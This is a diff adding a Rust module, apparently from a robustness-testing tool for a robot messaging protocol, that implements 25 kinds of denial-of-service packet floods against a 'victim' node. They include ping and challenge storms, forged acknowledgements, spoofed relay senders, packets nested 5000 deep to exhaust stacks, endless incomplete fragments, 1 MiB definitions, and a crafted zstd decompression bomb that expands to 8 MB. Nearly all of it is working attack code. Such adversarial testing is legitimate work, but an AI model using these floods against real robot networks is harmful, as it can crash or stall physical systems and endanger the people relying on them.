@@ -1,0 +1,393 @@
+// SPDX-License-Identifier: Apache-2.0
+//! What a peer sends that has turned against a node: kinds of packets, each filled so that it
+//! is as expensive to take as it can be.
+
+use super::peer::{FRAMES, Peer, ack, data, drawn, fill, topic};
+use clap::ValueEnum;
+use serde::Serialize;
+use std::collections::VecDeque;
+use std::io;
+use std::time::Duration;
+use tautline_proto::wire::control::Control;
+use tautline_proto::wire::frame::{
+    ClockReport, Data, Fragment, put_challenge, put_goodbye, put_held, put_ping,
+};
+use tautline_proto::wire::relay::{Held, RelayHeader, ShortName};
+use tautline_proto::{OfferedTopic, PublicKey, Role};
+
+/// The topic of the attacker that a node of the victim's robot listens to.
+const HEARD_TOPIC: &str = "/attacked/text";
+/// The service of the victim's robot that peers may call.
+pub const CALLED_SERVICE: &str = "/attacked/get_loggers";
+
+/// Longest definition that the protocol carries.
+const DEFINITION_BYTES: usize = 1 << 20;
+/// Largest message that a node takes by default; and one of which 256 are incomplete at once.
+const MESSAGE_BYTES: u32 = 8_000_000;
+const SMALL_MESSAGE_BYTES: u32 = 60_000;
+/// What a compressed block of one byte, repeated, becomes at most (RFC 8878, 3.1.1.2.4).
+const BLOCK_BYTES: u32 = 128 << 10;
+/// Channels of one peer that a node takes.
+const CHANNELS: u64 = 4096;
+/// Packets in packets that a datagram has room for; and more than the stack of a thread has.
+const SHALLOW: u64 = 34;
+const DEEP: u64 = 5000;
+/// Control messages that are sent without waiting for acknowledgements: only where some are
+/// lost has the victim to wait for those that are repeated.
+const WINDOW: usize = 20_000;
+/// Frames of control messages that are kept ready.
+const READY: usize = 400;
+/// A call in a new life is repeated so often before the next.
+const CALLS_OF_A_LIFE: u64 = 20;
+/// How long the victim may take to answer what a kind needs before it begins.
+const PATIENCE: Duration = Duration::from_secs(5);
+
+/// One kind of packets.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, ValueEnum)]
+#[serde(rename_all = "kebab-case")]
+#[value(rename_all = "kebab-case")]
+pub enum Kind {
+    /// Requests for an acknowledgement at once.
+    Pings,
+    /// Challenges, each of which asks for an echo.
+    Challenges,
+    /// Acknowledgements of 32 ranges: true ones, and others up to the largest numbers.
+    Acks,
+    /// Clock reports at their extremes.
+    Clocks,
+    /// What waits at a relay, the largest and none in turn, for every pair of nodes.
+    Held,
+    /// The end of the session, and another packet of it, in turn.
+    Goodbyes,
+    /// Handshakes of a new life of the peer, in turn.
+    Lives,
+    /// One packet, as it was.
+    Replays,
+    /// Noise, sealed as it should be.
+    Garbage,
+    /// A packet of 34 packets, one inside the other.
+    Nested,
+    /// The same with 5000, once; then pings.
+    Deep,
+    /// Packets for the other robot, some with its own name as their sender.
+    Relays,
+    /// First pieces of ever new messages.
+    Fragments,
+    /// First pieces of the session's own messages, far ahead.
+    Ahead,
+    /// Messages on channels that do not exist.
+    Unknown,
+    /// Messages of five bytes on a topic to which a node listens.
+    Messages,
+    /// Messages of 8 MB in 300 bytes, compressed, on the same topic.
+    Bombs,
+    /// A topic that is offered and withdrawn, in turn.
+    Offers,
+    /// Offers of 4096 topics with names of 1000 bytes, under ever new names.
+    Names,
+    /// Definitions of 1 MiB, each of another type.
+    Definitions,
+    /// Questions for the definitions of the victim's topics.
+    Asks,
+    /// The victim's topics wanted and not wanted, in turn.
+    Wants,
+    /// Refusals of the victim's topics, each for another reason of 1000 bytes.
+    Refusals,
+    /// A service that is offered and withdrawn, in turn.
+    Services,
+    /// Calls of a service of the victim's robot.
+    Calls,
+}
+
+impl Kind {
+    /// As on the command line.
+    pub fn name(self) -> String {
+        self.to_possible_value().map_or(String::new(), |value| value.get_name().into())
+    }
+}
+
+/// One kind under way.
+pub struct Barrage {
+    kind: Kind,
+    /// Short names of the attacker's neighbours: the victim, and the node that it talks to.
+    neighbours: [ShortName; 2],
+    /// Grows with whatever is to be new.
+    count: u64,
+    /// Frames made before it began.
+    frames: VecDeque<Vec<u8>>,
+    datagram: Vec<u8>,
+}
+
+/// A topic of ours whose messages rospy knows.
+fn text_topic(name: &str) -> OfferedTopic {
+    topic(name, "std_msgs/String", "992ce8a1687cec8c8bd883ec73ca41d1")
+}
+
+/// The definition of [`text_topic`]'s type.
+const TEXT_DEFINITION: &str = "string data\n";
+
+/// A name of nearly 1000 bytes.
+fn long_name(number: u64) -> String {
+    format!("/attacked/{number:0>960}")
+}
+
+impl Barrage {
+    /// Against the owner of the first key.
+    pub fn new(kind: Kind, neighbours: [&PublicKey; 2]) -> Self {
+        let neighbours = neighbours.map(PublicKey::short_name);
+        Self { kind, neighbours, count: 0, frames: VecDeque::new(), datagram: Vec::new() }
+    }
+
+    /// What has to be agreed or made before it begins; whether the victim agreed.
+    pub fn prepare(&mut self, peer: &mut Peer) -> io::Result<bool> {
+        peer.definition = Some(TEXT_DEFINITION.into());
+        peer.window = WINDOW;
+        match self.kind {
+            Kind::Replays => {
+                self.datagram = peer.seal(0, false, &fill(put_ping));
+                Ok(true)
+            }
+            Kind::Deep => {
+                self.frames = peer.nest(DEEP, u8::MAX).0.into();
+                Ok(true)
+            }
+            Kind::Messages | Kind::Bombs => {
+                peer.offer(1, text_topic(HEARD_TOPIC));
+                peer.run_until(PATIENCE, |peer| peer.heard.wanted.get(&1) == Some(&true))
+            }
+            Kind::Asks | Kind::Wants | Kind::Refusals => {
+                peer.run_until(PATIENCE, |peer| !peer.heard.offers.is_empty())
+            }
+            Kind::Calls => self.prepare_calls(peer),
+            Kind::Definitions => {
+                peer.definition = None;
+                Ok(true)
+            }
+            _ => Ok(true),
+        }
+    }
+
+    fn prepare_calls(&mut self, peer: &mut Peer) -> io::Result<bool> {
+        let service = |peer: &Peer| {
+            let mut offers = peer.heard.offers.iter();
+            offers.find(|it| it.topic.name == CALLED_SERVICE).cloned()
+        };
+        if !peer.run_until(PATIENCE, |peer| service(peer).is_some())? {
+            return Ok(false);
+        }
+        let Some(answers) = service(peer) else { return Ok(false) };
+        peer.control(&Control::Want { channel: answers.channel, wanted: true });
+        peer.offer(1, OfferedTopic { role: Role::Calls, ..answers.topic });
+        peer.run_until(PATIENCE, |peer| peer.heard.wanted.get(&1) == Some(&true))
+    }
+
+    /// Sends one packet.
+    pub fn send(&mut self, peer: &mut Peer) -> io::Result<()> {
+        match self.kind {
+            Kind::Replays => peer.put(&self.datagram),
+            Kind::Lives => self.send_call(peer),
+            Kind::Offers
+            | Kind::Names
+            | Kind::Definitions
+            | Kind::Asks
+            | Kind::Wants
+            | Kind::Refusals
+            | Kind::Services => {
+                while peer.backlog() < READY && self.add_control(peer) {}
+                peer.send_control()
+            }
+            Kind::Nested => {
+                let (frames, innermost) = peer.nest(SHALLOW, u8::MAX);
+                peer.send(&frames.concat())?;
+                peer.skip_to(innermost);
+                Ok(())
+            }
+            _ => {
+                let frames = self.packet(peer);
+                peer.send(&frames)
+            }
+        }
+    }
+
+    fn send_call(&mut self, peer: &mut Peer) -> io::Result<()> {
+        if self.next().is_multiple_of(CALLS_OF_A_LIFE) || self.datagram.is_empty() {
+            self.datagram = peer.call_anew();
+        }
+        peer.put(&self.datagram)
+    }
+
+    fn next(&mut self) -> u64 {
+        self.count += 1;
+        self.count
+    }
+
+    /// Frames of one packet.
+    fn packet(&mut self, peer: &mut Peer) -> Vec<u8> {
+        match self.kind {
+            Kind::Challenges => fill(|out| put_challenge(self.next(), out)),
+            Kind::Acks => self.acks(peer),
+            Kind::Clocks => fill(|out| self.clock().emit(out)),
+            Kind::Held => fill(|out| put_held(&self.held(), out)),
+            Kind::Goodbyes => fill(|out| match self.next() % 2 {
+                0 => put_ping(out),
+                _ => put_goodbye(out),
+            }),
+            Kind::Garbage => (0..FRAMES / 8).flat_map(|_| drawn().to_le_bytes()).collect(),
+            Kind::Deep => self.frames.pop_front().unwrap_or_else(|| fill(put_ping)),
+            Kind::Relays => fill(|out| self.relay(peer, out)),
+            Kind::Fragments => fill(|out| self.fragment(out)),
+            Kind::Ahead => {
+                let next = peer.next_control();
+                fill(|out| self.ahead(next, out))
+            }
+            Kind::Unknown => fill(|out| data(drawn() >> 1, 1, None).emit(b"x", out)),
+            Kind::Messages => fill(|out| data(1, self.next(), None).emit(b"\x01\0\0\0x", out)),
+            Kind::Bombs => {
+                let bomb = bomb();
+                fill(|out| Data { encoded: true, ..data(1, self.next(), None) }.emit(&bomb, out))
+            }
+            // Which call it is; the request is empty.
+            Kind::Calls => fill(|out| {
+                let number = self.next();
+                data(1, number, None).emit(&[number as u8 & 0x7f], out);
+            }),
+            _ => fill(put_ping),
+        }
+    }
+
+    fn acks(&mut self, peer: &Peer) -> Vec<u8> {
+        let newest = peer.arrivals().first().map_or(1, |(_, last)| *last);
+        fill(|out| {
+            let last = if self.next().is_multiple_of(2) { newest } else { u64::MAX - 2 };
+            let numbers = (0..32).filter_map(|n| last.checked_sub(2 * n));
+            ack(0, numbers.map(|number| (number, number)).collect()).emit(out);
+        })
+    }
+
+    fn clock(&mut self) -> ClockReport {
+        let high = self.next().is_multiple_of(2);
+        let (least, wall) = if high { (u32::MAX, i64::MAX) } else { (0, i64::MIN) };
+        ClockReport { least: Some(least), wall: Some(wall) }
+    }
+
+    fn held(&mut self) -> Held {
+        let number = self.next();
+        let bytes = if number.is_multiple_of(2) { u64::MAX } else { 0 };
+        let [victim, other] = self.neighbours;
+        match number / 2 % 3 {
+            0 => Held { to: other, bytes, from: None },
+            1 => Held { to: victim, bytes, from: Some(other) },
+            _ => Held { to: other, bytes, from: Some(victim) },
+        }
+    }
+
+    fn relay(&mut self, peer: &mut Peer, out: &mut Vec<u8>) {
+        let to = Some(self.neighbours[1]);
+        let stranger = ShortName([drawn() as u8, 0, 0]);
+        let from = match self.next() % 3 {
+            0 => None,
+            1 => to,
+            _ => Some(stranger),
+        };
+        let payload = RelayHeader { hops: 8, life: None, from, to }.before(&[0; 20]);
+        data(u8::MAX.into(), peer.next_relay(), None).emit_relay(&payload, out);
+    }
+
+    /// Of messages for others, which need not be wanted.
+    fn fragment(&mut self, out: &mut Vec<u8>) {
+        let number = self.next();
+        let total = if number.is_multiple_of(8) { MESSAGE_BYTES } else { SMALL_MESSAGE_BYTES };
+        let place = Some(Fragment { total, offset: 0 });
+        data(number % 256, number, place).emit_relay(b"x", out);
+    }
+
+    fn ahead(&mut self, next: u64, out: &mut Vec<u8>) {
+        let number = next + 1 + self.next() % 1000;
+        let offset = drawn() as u32 % DEFINITION_BYTES as u32;
+        let place = Some(Fragment { total: DEFINITION_BYTES as u32, offset });
+        data(0, number, place).emit(b"x", out);
+    }
+
+    /// Has control messages wait; whether there are any.
+    fn add_control(&mut self, peer: &mut Peer) -> bool {
+        let number = self.next();
+        // Numbers of channels are not used again.
+        let channel = number + 1;
+        match self.kind {
+            Kind::Offers => {
+                peer.offer(channel, text_topic(&format!("/attacked/topic_{}", number % 64)));
+                peer.control(&Control::Withdraw { channel });
+            }
+            Kind::Services => {
+                let name = format!("/attacked/service_{}", number % 64);
+                let empty = topic(&name, "roscpp/Empty", "d41d8cd98f00b204e9800998ecf8427e");
+                peer.offer(channel, OfferedTopic { role: Role::Answers, ..empty });
+                peer.control(&Control::Withdraw { channel });
+            }
+            Kind::Names => peer.offer(1 + number % CHANNELS, text_topic(&long_name(number))),
+            Kind::Definitions => {
+                let channel = 1 + number % CHANNELS;
+                let type_name = format!("attacked_msgs/T{number}");
+                let hash = format!("{number:032x}");
+                peer.offer(channel, topic(&format!("/attacked/d{number}"), &type_name, &hash));
+                let text = "#".repeat(DEFINITION_BYTES);
+                peer.control(&Control::Definition { channel, text });
+            }
+            kind => {
+                let offers = &peer.heard.offers;
+                let Some(index) = number.checked_rem(offers.len() as u64) else { return false };
+                let channel = offers[index as usize].channel;
+                for control in about(kind, channel, number) {
+                    peer.control(&control);
+                }
+            }
+        }
+        true
+    }
+}
+
+/// Control messages about a channel of the victim's.
+fn about(kind: Kind, channel: u64, number: u64) -> Vec<Control> {
+    match kind {
+        Kind::Wants => [true, false].map(|wanted| Control::Want { channel, wanted }).into(),
+        Kind::Refusals => vec![Control::Refuse { channel, reason: long_name(number) }],
+        _ => vec![Control::GetDefinition { channel }],
+    }
+}
+
+/// 8 MB of zeros, compressed (RFC 8878): a frame that tells its size, and blocks of one byte each.
+fn bomb() -> Vec<u8> {
+    let mut frame = vec![0x28, 0xb5, 0x2f, 0xfd, 0xa0];
+    frame.extend_from_slice(&MESSAGE_BYTES.to_le_bytes());
+    let mut left = MESSAGE_BYTES;
+    while left > 0 {
+        let len = left.min(BLOCK_BYTES);
+        left -= len;
+        let header = len << 3 | 1 << 1 | u32::from(left == 0);
+        frame.extend_from_slice(&header.to_le_bytes()[..3]);
+        frame.push(0);
+    }
+    frame
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_blocks_of_a_bomb_are_as_long_as_its_frame_says() {
+        let frame = bomb();
+        assert!(frame.len() < 300, "several fit a packet");
+        let blocks = frame[9..].chunks(4).map(|it| u32::from_le_bytes([it[0], it[1], it[2], 0]));
+        let blocks: Vec<u32> = blocks.collect();
+        assert_eq!(blocks.iter().map(|header| header >> 3).sum::<u32>(), MESSAGE_BYTES);
+        let (last, others) = blocks.split_last().unwrap();
+        assert!(last & 1 == 1 && others.iter().all(|header| header & 1 == 0));
+    }
+
+    #[test]
+    fn names_are_long_and_differ() {
+        let (one, other) = (long_name(1), long_name(2));
+        assert!(one != other && (900..=1024).contains(&one.len()));
+    }
+}
